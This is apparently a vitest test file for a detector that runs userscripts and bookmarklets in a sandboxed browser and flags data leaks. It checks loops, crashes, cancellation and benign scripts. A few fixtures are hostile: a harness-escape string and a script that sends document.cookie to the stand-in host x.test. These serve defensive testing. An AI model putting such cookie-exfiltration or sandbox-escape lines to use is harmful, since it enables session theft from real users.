import { afterAll, describe, expect, it } from "vitest";
import { openTestBrowser, runBookmarklet, runSample, seen, userscript, WALL_MS } from "./canary.test-support.ts";
import { runCanary } from "./run-canary.ts";

const browser = openTestBrowser();
afterAll(() => browser.close());

const innocent =
	"document.body.style.background = 'pink'; const r = fetch('/api/mine', { method: 'POST', body: document.cookie });";
const short = (body: string) => runCanary({ code: userscript(body), kind: "userscript" }, { browser, wallMs: 4_000 });

describe("a failed run reports no answer instead of a pass", () => {
	it.each([
		["an endless loop", "for (;;);"],
		["an endless loop after user input", "addEventListener('keydown', () => { for (;;); })"],
		["unlimited memory use", "const kept = []; for (;;) kept.push(new Array(1e6).fill(Math.random()))"],
	])("%s", async (_name, body) => {
		expect((await short(body)).answer).toBe("none");
	});

	it("does not affect the next run", async () => {
		expect(await runSample(browser, innocent)).toMatchObject({ answer: "ran", evidence: [] });
	});

	it("code that does not parse, and braces that would break out of the harness", async () => {
		expect(await short("this is no JavaScript")).toMatchObject({
			answer: "none",
			reason: "It does not parse as a userscript.",
		});
		expect(await short("}).call(this); fetch('https://x.test/' + document.cookie); (function () {")).toMatchObject({
			answer: "none",
		});
	});

	it("a browser that is killed during a run; the next run starts a new one", async () => {
		const running = runSample(browser, "setInterval(() => document.title += '.', 100)");
		while (browser.pid() === null) await new Promise((resolve) => setImmediate(resolve));
		process.kill(browser.pid() ?? 0, "SIGKILL");
		expect((await running).answer).toBe("none");
		expect(await runSample(browser, innocent)).toMatchObject({ answer: "ran", evidence: [] });
	});

	it("a canceled run", async () => {
		const signal = AbortSignal.abort();
		const report = await runCanary(
			{ code: userscript(innocent), kind: "userscript" },
			{ browser, signal, wallMs: WALL_MS },
		);
		expect(report).toMatchObject({ answer: "none", reason: "It was called off." });
	});

	it("keeps evidence from before the failure", async () => {
		const report = await short(
			"fetch('https://x.test/', { method: 'POST', mode: 'no-cors', body: document.cookie }); setTimeout(() => { for (;;); }, 1000)",
		);
		expect(report.answer).toBe("none");
		expect(seen(report)).toEqual(["cookie>x.test"]);
	});
});

describe("an innocent script leaves no evidence", () => {
	it.each([
		["sends requests to its own site", innocent, undefined],
		[
			"sends the selection to a declared service when its button is clicked",
			"const b = document.createElement('button'); b.textContent = 'Translate'; b.onclick = () => GM_xmlhttpRequest({ method: 'POST', url: 'https://translate.test/', data: String(getSelection()) }); document.body.append(b)",
			["@match *://*/*", "@grant GM_xmlhttpRequest", "@connect translate.test"],
		],
		[
			"stores passwords, cookies and keys without sending them",
			"const all = []; addEventListener('input', (e) => all.push(e.target.value)); GM_setValue('c', document.cookie); GM_setValue('l', { ...localStorage })",
			["@match *://*/*", "@grant GM_setValue"],
		],
		[
			"loads data from another site without sending any",
			"fetch('https://data.test/rates.json').then((r) => r.json()).then(({ rates }) => { document.title = String(rates) })",
			undefined,
		],
		[
			"uses the key that its user entered for a service",
			"GM_registerMenuCommand('Key', () => { GM_setValue('key', prompt('Your API key for list.test')); GM_xmlhttpRequest({ url: 'https://list.test/', headers: { Authorization: GM_getValue('key') } }) })",
			["@match *://*/*", "@grant GM_xmlhttpRequest", "@connect list.test"],
		],
	])("%s", async (_name, body, lines) => {
		expect(await runSample(browser, body, lines)).toMatchObject({ answer: "ran", evidence: [] });
	});

	it("a bookmarklet that opens the page's complete address on another site", async () => {
		const report = await runBookmarklet(browser, "open('https://archive.test/save/' + location.href)");
		expect(report).toMatchObject({ answer: "ran", evidence: [] });
	});

	it("a bookmarklet that opens a search for the selection", async () => {
		const report = await runBookmarklet(
			browser,
			"javascript:void window.open('https://search.test/?q='+encodeURIComponent(getSelection()+' '+document.title))",
		);
		expect(report).toMatchObject({ answer: "ran", evidence: [] });
	});
});
